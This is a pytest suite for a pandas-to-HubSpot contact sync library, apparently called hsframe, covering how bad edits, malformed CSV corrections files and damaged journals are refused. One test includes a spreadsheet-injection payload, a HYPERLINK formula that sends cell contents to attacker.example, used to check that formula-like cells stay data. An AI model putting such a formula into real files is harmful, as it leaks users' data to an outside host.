"""Bad input: each gets a clear error naming the row and the property and saying what to do,
and nothing is written.

"Nothing is written" is checked twice, from the sandbox's side: its request log shows no
write, and every cell of its store is as before (:func:`faultkit.verdict` with an empty
intent). "A clear error" means the message names the property and the row (position and
contact), and the hint says what to do.

Where bad input is not an error by design (a column that is not a property is a working
column; NaN, ``None`` and ``""`` all clear a value), the test asserts the documented
behaviour instead. The property test at the end adds what tests/test_diff.py and
tests/test_schema.py do not cover: random edits, pushed to the sandbox and loaded back,
come back exactly as edited (diff ∘ push ∘ reload is the identity).
"""

from __future__ import annotations

import contextlib
import datetime as dt
import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from faultkit import (
    FULL,
    WINDOW,
    Intent,
    Ledger,
    make_client,
    unique_emails,
    verdict,
    writes,
)
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import hsframe as hs
from hsframe import cli, corrections, diff, send, write
from hsframe.client import Client
from hsframe.errors import ConfigurationError
from hsframe.journal import JournalError
from hsframe.sandbox import CrmSettings, Sandbox, load_properties
from hsframe.schema import CodecError, Schema
from hsframe.write import InvalidEditsError

PROPERTIES = [
    "email",
    "firstname",
    "jobtitle",
    "city",
    "lifecyclestage",
    "seats",
    "newsletter_opt_in",
    "date_of_birth",
    "last_demo_at",
    "product_interest",
    "createdate",
    "hs_object_id",
]
OTHER_PORTAL = 87_654_321


def _sandbox(contacts: int = 60, **options: Any) -> Sandbox:
    return Sandbox(
        contacts=contacts, window=WINDOW, settings=CrmSettings(shuffle_results=False), **options
    )


@pytest.fixture
def sb() -> Iterator[Sandbox]:
    with _sandbox() as sandbox:
        yield sandbox


@pytest.fixture
def client(sb: Sandbox) -> Iterator[Client]:
    with make_client(sb) as c:
        yield c


def load(client: Client, **options: Any) -> pd.DataFrame:
    return hs.read_contacts(client, properties=PROPERTIES, progress=False, **options)


def push(frame: pd.DataFrame, client: Client, journal_dir: Path, **options: Any) -> Any:
    return write.push(frame, client, progress=False, journal_dir=journal_dir, **options)


@contextlib.contextmanager
def nothing_written(sb: Sandbox, ledger: Ledger, *, refused: bool = False) -> Iterator[None]:
    """The block may fail as it likes; afterwards no write was sent (or, with ``refused``,
    only writes that HubSpot refused) and no cell changed."""
    before = sb.contacts()
    sb.clear_requests()
    ledger.kind = "bad-input"
    ledger.bad_inputs += 1
    yield
    sent = [(r.method, r.path) for r in writes(sb)]
    found = ledger.judge(verdict(before, sb.contacts(), Intent()))
    assert refused or not sent, f"writes were sent: {sent}"
    assert found.ok, str(found)


def says(text: str, *needles: str) -> None:
    """The message holds every needle."""
    missing = [n for n in needles if n not in text]
    assert not missing, f"{missing} not in: {text}"


# --- edits the validator refuses ---------------------------------------------------------------


def _set(name: str, value: Any) -> Callable[[pd.DataFrame, int], None]:
    def edit(df: pd.DataFrame, position: int) -> None:
        df.loc[df.index[position], name] = value

    return edit


def _add_option(name: str, value: str) -> Callable[[pd.DataFrame, int], None]:
    """What a user does to put a value pandas's categorical refuses."""

    def edit(df: pd.DataFrame, position: int) -> None:
        df[name] = df[name].cat.add_categories([value])
        df.loc[df.index[position], name] = value

    return edit


def _email_of_another(df: pd.DataFrame, position: int) -> None:
    others = unique_emails(df.drop(index=df.index[position]).astype({"email": object}))
    df.loc[df.index[position], "email"] = str(others.iloc[5]).upper()


REFUSED: dict[str, tuple[Callable[[pd.DataFrame, int], None], str, str]] = {
    "read-only createdate": (
        _set("createdate", pd.Timestamp("2020-01-01", tz="UTC")),
        "createdate",
        "read-only",
    ),
    "read-only record id": (_set("hs_object_id", 5), "hs_object_id", "read-only"),
    "stale option": (_set("lifecyclestage", "Lead"), "lifecyclestage", "did you mean 'lead'"),
    "unknown option": (
        _add_option("lifecyclestage", "prospect"),
        "lifecyclestage",
        "not an option",
    ),
    "invalid email": (_set("email", "not an email"), "email", "not an email address"),
    "email without a domain": (_set("email", "ann@localhost"), "email", "dotted domain"),
    "email of another contact": (_email_of_another, "email", "HubSpot keeps email unique"),
    "multi-select outside the options": (
        _set("product_interest", "crm;teleportation"),
        "product_interest",
        "teleportation",
    ),
}


@pytest.mark.parametrize("case", list(REFUSED), ids=list(REFUSED))
def test_an_invalid_edit_is_refused_by_row_and_property(
    case: str, sb: Sandbox, client: Client, tmp_path: Path, ledger: Ledger
) -> None:
    edit, name, reason = REFUSED[case]
    df = load(client)
    df.loc[df.index[:3], "jobtitle"] = "Valid alongside"  # valid edits are held back too
    position = 7
    edit(df, position)
    contact = int(df.index[position])
    with nothing_written(sb, ledger), pytest.raises(InvalidEditsError) as caught:
        push(df, client, tmp_path)
    text = str(caught.value)
    says(text, f"{name}: row {position} (contact {contact})", reason, "nothing was sent")
    says(text, "Fix them", "on_invalid='skip'")
    assert caught.value.report.failures["property"].tolist() == [name]


def test_duplicate_emails_within_the_frame_name_both_rows(
    sb: Sandbox, client: Client, tmp_path: Path, ledger: Ledger
) -> None:
    df = load(client)
    first, second = df.index[4], df.index[9]
    df.loc[[first, second], "email"] = ["twin@example.com", "TWIN@Example.com"]
    with nothing_written(sb, ledger), pytest.raises(InvalidEditsError) as caught:
        push(df, client, tmp_path)
    says(
        str(caught.value),
        f"email: row 4 (contact {first})",
        f"email: row 9 (contact {second})",
        f"also the email of contact {second}",
        "change one of them",
    )


def test_new_rows_with_the_same_email_are_refused(
    sb: Sandbox, client: Client, tmp_path: Path, ledger: Ledger
) -> None:
    df = load(client)
    frame = diff.add(df, [{"email": "one@example.com"}, {"email": "One@Example.com"}])
    with nothing_written(sb, ledger), pytest.raises(InvalidEditsError) as caught:
        push(frame, client, tmp_path)
    says(str(caught.value), f"row {len(df)}", f"row {len(df) + 1}", "email")


def test_an_email_taken_outside_the_loaded_frame_is_refused_by_hubspot(
    sb: Sandbox, client: Client, tmp_path: Path, ledger: Ledger
) -> None:
    """The frame cannot know every email of the portal: HubSpot's 409 is reported on the
    cell, with the contact that holds the email, and nothing changes."""
    df = load(client, limit=10)
    taken = unique_emails(sb.contacts()).iloc[-1]
    holder = int(unique_emails(sb.contacts()).index[-1])
    df.loc[df.index[2], "email"] = taken
    with nothing_written(sb, ledger, refused=True):
        result = push(df, client, tmp_path)
    assert result.applied.empty and len(result.failed) == 1
    failure = result.failed.iloc[0]
    assert (failure["row"], failure["property"], failure["existing_id"]) == (2, "email", holder)
    says(str(failure["reason"]), "already exists", str(holder))


def test_a_new_contact_whose_email_exists_is_not_created(
    sb: Sandbox, client: Client, tmp_path: Path, ledger: Ledger
) -> None:
    df = load(client, limit=10)
    taken = unique_emails(sb.contacts()).iloc[-3]
    holder = int(unique_emails(sb.contacts()).index[-3])
    frame = diff.add(df, [{"email": taken.upper(), "firstname": "Twin"}])
    with nothing_written(sb, ledger, refused=True):
        result = push(frame, client, tmp_path)
    assert not result.created
    assert set(result.failed["existing_id"]) == {holder}
    says(result.summary(), "already exists")


def test_corrections_never_duplicate_a_contact_whose_stored_email_is_messy(
    sb: Sandbox, client: Client, tmp_path: Path, ledger: Ledger
) -> None:
    ledger.kind = "bad-input"
    ledger.bad_inputs += 1
    store = sb.contacts()
    emails = store["email"].dropna()
    messy = emails[emails != emails.str.strip()]
    assert len(messy), "the seed data no longer has emails with spaces"
    contact, stored = int(messy.index[0]), str(messy.iloc[0])
    fixes = pd.DataFrame({"email": [stored.strip()], "jobtitle": ["Corrected"]})
    corrections.apply_corrections(fixes, client=client, progress=False, journal_dir=tmp_path)
    after = sb.contacts()
    twins = after[after["email"].str.strip().str.lower() == stored.strip().lower()]
    ledger.duplicates += len(twins) - 1
    assert list(twins.index) == [contact], f"{len(twins)} contacts now hold {stored.strip()!r}"
    # the contact found is corrected, and its stored email loses the spaces
    assert after.loc[contact, ["email", "jobtitle"]].tolist() == [stored.strip(), "Corrected"]


# --- what pandas or the codec refuse ------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("seats", "twelve"),
        ("last_demo_at", pd.Timestamp("2024-01-01 10:00")),  # naive into aware
        ("date_of_birth", pd.Timestamp("2024-01-01", tz="UTC")),  # aware into a date
        ("newsletter_opt_in", "maybe"),
    ],
    ids=["text-in-number", "naive-in-datetime", "aware-in-date", "text-in-bool"],
)
def test_a_wrong_type_in_a_typed_column_is_refused_by_pandas(
    name: str, value: Any, sb: Sandbox, client: Client, ledger: Ledger
) -> None:
    df = load(client)
    with nothing_written(sb, ledger), pytest.raises((TypeError, ValueError), match="Invalid"):
        df.loc[df.index[3], name] = value


@pytest.mark.parametrize(
    ("name", "retype", "value", "reason"),
    [
        ("seats", lambda s: s.astype(object), "twelve", "not a number"),
        ("seats", lambda s: s.astype(object), "1,200", "thousands"),
        (
            "last_demo_at",
            lambda s: s.dt.tz_localize(None),
            pd.Timestamp("2024-01-01 10:00"),
            "tz_localize",
        ),
        ("date_of_birth", lambda s: s, pd.Timestamp("1990-05-01 13:30"), "midnight"),
    ],
    ids=["text-number", "thousands-separator", "naive-datetimes", "date-with-a-time"],
)
def test_a_value_the_codec_cannot_write_names_column_contact_and_value(
    name: str,
    retype: Callable[[pd.Series], pd.Series],
    value: Any,
    reason: str,
    sb: Sandbox,
    client: Client,
    tmp_path: Path,
    ledger: Ledger,
) -> None:
    df = load(client)
    df[name] = retype(df[name])
    contact = int(df.index[3])
    df.loc[contact, name] = value
    with nothing_written(sb, ledger), pytest.raises(CodecError) as caught:
        push(df, client, tmp_path)
    says(str(caught.value), f"column '{name}'", str(contact), reason)


@pytest.mark.parametrize(
    ("empty", "held"),
    [(None, None), (np.nan, None), (pd.NA, None), ("", None), ("   ", "   ")],
    ids=["None", "nan", "NA", "empty-string", "spaces"],
)
def test_every_kind_of_empty_clears_a_value_and_spaces_are_text(
    empty: Any, held: str | None, sb: Sandbox, client: Client, tmp_path: Path, ledger: Ledger
) -> None:
    """Documented (schema.py, "Empty versus unset"): NA and "" both mean "no value", so an
    edit to any of them clears the value (HubSpot is sent "" and holds null); a string of
    spaces is text, written as typed."""
    ledger.kind = "bad-input"
    ledger.bad_inputs += 1
    df = load(client)
    contact = int(df.index[df["city"].notna()][0])
    df.loc[contact, "city"] = empty
    assert diff.changes(df)[["id", "property", "new"]].values.tolist() == [[contact, "city", held]]
    before = sb.contacts()
    result = push(df, client, tmp_path)
    assert result.ok and len(result.applied) == 1
    assert diff.changes(df).empty  # the baseline moved: nothing left to send
    found = ledger.judge(verdict(before, sb.contacts(), Intent({(contact, "city"): held})))
    assert found.ok, str(found)


# --- frames hsframe cannot compare ------------------------------------------------------------


@pytest.mark.parametrize(
    ("mangle", "message", "todo"),
    [
        (lambda df: df.reset_index(), "was the index reset", 'set_index("id")'),
        (lambda df: df.reset_index(drop=True), "not indexed by contact id", 'set_index("id")'),
        (lambda df: pd.concat([df, df.iloc[:2]]), "more than once", "duplicated"),
        (lambda df: df.set_index("hs_object_id"), "", "contact id"),
    ],
    ids=["reset", "reset-and-dropped", "duplicated", "other-column"],
)
def test_an_index_that_is_not_the_contact_id_is_refused(
    mangle: Callable[[pd.DataFrame], pd.DataFrame],
    message: str,
    todo: str,
    sb: Sandbox,
    client: Client,
    tmp_path: Path,
    ledger: Ledger,
) -> None:
    df = load(client)
    df.loc[df.index[:3], "jobtitle"] = "Edited"
    frame = mangle(df)
    with nothing_written(sb, ledger), pytest.raises(hs.FrameError) as caught:
        push(frame, client, tmp_path)
    says(str(caught.value), message, todo)


def test_columns_that_are_not_properties_are_warned_about_and_never_sent(
    sb: Sandbox, client: Client, tmp_path: Path, ledger: Ledger
) -> None:
    df = load(client)
    df["my_notes"] = "working column"
    df["Email "] = df["email"]  # a near miss of a property name
    with nothing_written(sb, ledger), pytest.warns(UserWarning, match="my_notes") as warned:
        result = push(df, client, tmp_path)
    assert "Email " in str(warned[0].message) and "Drop them" in str(warned[0].message)
    assert set(result.ignored) == {"my_notes", "Email "} and result.requests == 0


def test_a_frame_from_another_portal_is_refused(tmp_path: Path, ledger: Ledger) -> None:
    with (
        _sandbox(20) as first,
        _sandbox(20, portal_id=OTHER_PORTAL) as second,
        make_client(first) as mine,
        make_client(second) as theirs,
    ):
        df = load(mine)
        df.loc[df.index[:2], "jobtitle"] = "Elsewhere"
        with nothing_written(second, ledger), pytest.raises(ConfigurationError) as caught:
            push(df, theirs, tmp_path)
        says(str(caught.value), "portal 12345678", f"portal {OTHER_PORTAL}", "nothing")
        # and a journal of the first portal cannot be resumed on the second
        crash = _crash_after_checks()
        with pytest.raises(Crash):
            push(df, mine, tmp_path / "journal", listeners=[crash])
        [path] = (tmp_path / "journal").iterdir()
        with nothing_written(second, ledger), pytest.raises(ConfigurationError) as refused:
            hs.resume(path, theirs, progress=False)
        says(str(refused.value), f"portal {OTHER_PORTAL}", "Resume with a token")


# --- corrections files (the CLI) -----------------------------------------------------------------


def _cli(
    sb: Sandbox, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], *argv: str
) -> tuple[int, str, str]:
    monkeypatch.setenv("HUBSPOT_ACCESS_TOKEN", sb.token)
    monkeypatch.setenv("HUBSPOT_BASE_URL", sb.url)
    code = cli.main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def test_a_corrections_file_with_missing_keys_writes_nothing_and_names_the_rows(
    sb: Sandbox,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    ledger: Ledger,
) -> None:
    emails = list(unique_emails(sb.contacts()).iloc[:3])
    text = f"email,jobtitle\n{emails[0]},Fixed\n,No key\n{emails[1]},Fixed too\n   ,Blank key\n"
    path = tmp_path / "fixes.csv"
    path.write_text(text, encoding="utf-8")
    with nothing_written(sb, ledger):
        code, _, err = _cli(
            sb,
            monkeypatch,
            capsys,
            "apply",
            str(path),
            "--yes",
            "--journal-dir",
            str(tmp_path / "j"),
        )
    assert code == 2
    says(err, "no usable email", f"lines 3, 5 of {path}", "Give every row a key")


def test_a_latin_1_file_with_formulas_and_a_bom_free_header_is_data(
    sb: Sandbox,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    ledger: Ledger,
) -> None:
    """Latin-1 bytes are read as Windows-1252 with a warning; cells that look like formulas
    stay data, in existing and in new contacts, and reach HubSpot as typed."""
    ledger.kind = "bad-input"
    ledger.bad_inputs += 3
    [email] = list(unique_emails(sb.contacts()).iloc[:1])
    formula = '=HYPERLINK("http://attacker.example/?q="&A1,"Click")'
    quoted = '"' + formula.replace('"', '""') + '"'
    text = (
        "email;firstname;jobtitle\n"
        f"{email.upper()};José;{quoted}\n"
        "nueva.persona@example.com;Ñandú;@SUM(1+1)\n"
    )
    path = tmp_path / "fixes.csv"
    path.write_bytes(text.encode("latin-1"))
    before = sb.contacts()
    code, out, err = _cli(
        sb, monkeypatch, capsys, "apply", str(path), "--yes", "--journal-dir", str(tmp_path / "j")
    )
    assert code == 0, out + err
    says(err, "not UTF-8", "Windows-1252")
    contact = int(before.index[before["email"] == email][0])
    intent = Intent(
        {(contact, "firstname"): "José", (contact, "jobtitle"): formula},
        {
            "nueva.persona@example.com": {
                "email": "nueva.persona@example.com",
                "firstname": "Ñandú",
                "jobtitle": "@SUM(1+1)",
            }
        },
    )
    intent.updates = {k: v for k, v in intent.updates.items() if before.at[k[0], k[1]] != v}
    found = ledger.judge(verdict(before, sb.contacts(), intent))
    assert found.ok, str(found)


def test_a_bom_is_not_part_of_the_key_column(
    sb: Sandbox,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    ledger: Ledger,
) -> None:
    ledger.kind = "bad-input"
    ledger.bad_inputs += 1
    [email] = list(unique_emails(sb.contacts()).iloc[1:2])
    path = tmp_path / "fixes.csv"
    path.write_bytes(b"\xef\xbb\xbfemail,city\r\n" + f"{email},Zürich\r\n".encode())
    before = sb.contacts()
    code, out, err = _cli(
        sb, monkeypatch, capsys, "apply", str(path), "--yes", "--journal-dir", str(tmp_path / "j")
    )
    assert code == 0, out + err
    contact = int(before.index[before["email"] == email][0])
    found = ledger.judge(verdict(before, sb.contacts(), Intent({(contact, "city"): "Zürich"})))
    assert found.ok, str(found)


# --- journals that were cut or edited -------------------------------------------------------------


class Crash(Exception):
    """Stands for the process dying."""


def _crash_after_checks() -> Callable[[send.Event], None]:
    def listener(event: send.Event) -> None:
        if isinstance(event, send.Sent):
            raise Crash("the kernel died")

    return listener


def _crashed_push(sb: Sandbox, tmp_path: Path) -> tuple[Path, Intent, pd.DataFrame]:
    with make_client(sb, max_concurrency=1) as one:
        df = load(one)
        before = sb.contacts()
        df.loc[df.index[:150], "jobtitle"] = "Journaled"
        intent = Intent(
            {
                (int(i), "jobtitle"): "Journaled"
                for i in df.index[:150]
                if before.at[int(i), "jobtitle"] != "Journaled"
            }
        )
        with pytest.raises(Crash):
            push(df, one, tmp_path / "journal", listeners=[_crash_after_checks()])
    [path] = (tmp_path / "journal").iterdir()
    return path, intent, before


def test_a_journal_whose_last_line_was_cut_is_resumed(tmp_path: Path, ledger: Ledger) -> None:
    ledger.kind = "bad-input"
    ledger.bad_inputs += 1
    with _sandbox(200) as sb:
        path, intent, before = _crashed_push(sb, tmp_path)
        data = path.read_bytes()
        last = data[:-1].rfind(b"\n") + 1
        path.write_bytes(data[: last + (len(data) - last) // 2])  # the last line, half written
        with make_client(sb) as client:
            result = hs.resume(path, client, progress=False)
        assert result.complete and result.ok, result.summary()
        found = ledger.judge(verdict(before, sb.contacts(), intent))
        assert found.ok, str(found)


@pytest.mark.parametrize(
    "damage",
    [
        lambda line: line[: len(line) // 2] + "\n",
        lambda line: line.replace('"record":"', '"recrod":"'),
        lambda line: "\n",
    ],
    ids=["cut-in-the-middle", "renamed-field", "blank-line"],
)
def test_a_journal_damaged_in_the_middle_is_refused_by_line(
    damage: Callable[[str], str], tmp_path: Path, ledger: Ledger
) -> None:
    with _sandbox(200) as sb:
        path, _, _ = _crashed_push(sb, tmp_path)
        lines = path.read_text().splitlines(keepends=True)
        assert len(lines) >= 4
        lines[2] = damage(lines[2])
        path.write_text("".join(lines))
        with (
            make_client(sb) as client,
            nothing_written(sb, ledger),
            pytest.raises(JournalError) as caught,
        ):
            hs.resume(path, client, progress=False)
        says(str(caught.value), "line 3", "edited or damaged")


def test_a_journal_edited_into_other_valid_records_is_refused(
    tmp_path: Path, ledger: Ledger
) -> None:
    with _sandbox(200) as sb:
        path, _, _ = _crashed_push(sb, tmp_path)
        lines = path.read_text().splitlines(keepends=True)
        plan = json.loads(lines[1])
        assert plan["record"] == "plan"
        for batch in plan["batches"]:
            for item in batch["inputs"]:
                item["properties"] = {k: "Edited by hand" for k in item["properties"]}
        lines[1] = json.dumps(plan, separators=(",", ":")) + "\n"
        path.write_text("".join(lines))
        with (
            make_client(sb) as client,
            nothing_written(sb, ledger),
            pytest.raises(JournalError) as caught,
        ):
            hs.resume(path, client, progress=False)
        says(str(caught.value), "line 2", "edited or damaged")


# --- diff ∘ push ∘ reload is the identity (hypothesis) --------------------------------------------

_DEFINITIONS = {d["name"]: d for d in load_properties()}
LIFECYCLE = [o["value"] for o in _DEFINITIONS["lifecyclestage"]["options"]]
INTERESTS = [o["value"] for o in _DEFINITIONS["product_interest"]["options"]]
moments = st.datetimes(
    min_value=dt.datetime(1971, 1, 1),
    max_value=dt.datetime(2090, 12, 31),
    timezones=st.just(dt.UTC),
).map(lambda d: pd.Timestamp(d.replace(microsecond=d.microsecond // 1000 * 1000)))
VALUES: dict[str, st.SearchStrategy[Any]] = {
    "firstname": st.text(max_size=25),
    "jobtitle": st.text(max_size=40),
    "seats": st.one_of(
        st.integers(-(10**9), 10**9),
        st.floats(-1e9, 1e9, allow_nan=False).map(lambda f: round(f, 4)),
    ),
    "lifecyclestage": st.sampled_from(LIFECYCLE),
    "newsletter_opt_in": st.booleans(),
    "date_of_birth": st.dates(dt.date(1900, 1, 1), dt.date(2100, 12, 31)).map(pd.Timestamp),
    "last_demo_at": moments,
    "product_interest": st.lists(st.sampled_from(INTERESTS), min_size=1, unique=True).map(";".join),
}
ROUND_TRIP = ["email", *VALUES]


@st.composite
def random_edits(draw: st.DrawFn) -> list[tuple[int, str, Any]]:
    cells = draw(
        st.lists(
            st.tuples(st.integers(0, 39), st.sampled_from(sorted(VALUES))),
            min_size=1,
            max_size=15,
            unique=True,
        )
    )
    return [(row, name, draw(st.one_of(st.none(), VALUES[name]))) for row, name in cells]


@pytest.fixture(scope="module")
def round_trip_sandbox() -> Iterator[Sandbox]:
    with Sandbox(contacts=40, window=WINDOW, seed=5) as sb:
        yield sb


@settings(
    max_examples=100 if FULL else 20,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(edits=random_edits())
def test_random_edits_pushed_and_reloaded_come_back_as_edited(
    edits: list[tuple[int, str, Any]], round_trip_sandbox: Sandbox, tmp_path: Path, ledger: Ledger
) -> None:
    sb = round_trip_sandbox
    ledger.kind = "property"
    ledger.operations += 3  # load, push, load again
    with make_client(sb) as client:
        df = hs.read_contacts(client, properties=ROUND_TRIP, progress=False)
        schema = Schema.from_definitions(client.property_definitions())
        for row, name, value in edits:
            df.loc[df.index[row], name] = value
        meant = schema.encode(df[ROUND_TRIP])
        result = write.push(df, client, progress=False, journal_dir=tmp_path / "journal")
        assert result.complete and result.ok, result.summary()
        assert diff.changes(df).empty, "the baseline did not move to what was written"
        again = hs.read_contacts(client, properties=ROUND_TRIP, progress=False)
        held = schema.encode(again[ROUND_TRIP])
    pd.testing.assert_frame_equal(held, meant, check_dtype=False)
    assert diff.changes(again).empty
